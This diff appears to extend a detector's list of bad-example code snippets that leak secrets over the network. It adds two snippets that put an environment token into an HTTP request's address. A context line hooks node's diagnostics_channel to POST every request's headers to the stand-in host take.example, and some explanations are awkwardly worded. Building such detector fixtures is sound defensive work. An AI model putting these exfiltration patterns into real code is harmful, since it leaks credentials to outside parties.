@@ -6,6 +6,16 @@ const sent = { source: 'environment', sink: 'network.body', to: 'take.example' }
 export const throughClients: DetectorExamples = {
   bad: [
     {
+      code: "import http from 'node:http'; const url = new URL(process.env.SERVICE_TOKEN); http.request({ hostname: url.hostname, path: url.pathname });",
+      why: 'host and path are parts of one address, which is asked and not sent',
+      attributes: { source: 'environment:SERVICE_TOKEN', sink: 'network.target', to: 'dynamic' },
+    },
+    {
+      code: "import http from 'node:http'; const url = new URL(process.env.SERVICE_TOKEN); http.request({ hostname: host, path: url.pathname });",
+      why: 'the host comes from elsewhere',
+      attributes: { source: 'environment:SERVICE_TOKEN', sink: 'network.url', to: 'dynamic' },
+    },
+    {
       code: "import { subscribe } from 'node:diagnostics_channel'; subscribe('undici:request:create', ({ request }) => { fetch('https://take.example', { method: 'POST', body: String(request.headers) }); });",
       why: 'the headers of every request, as those who watch them are told',
       attributes: { source: 'credential', sink: 'network.body', to: 'take.example' },
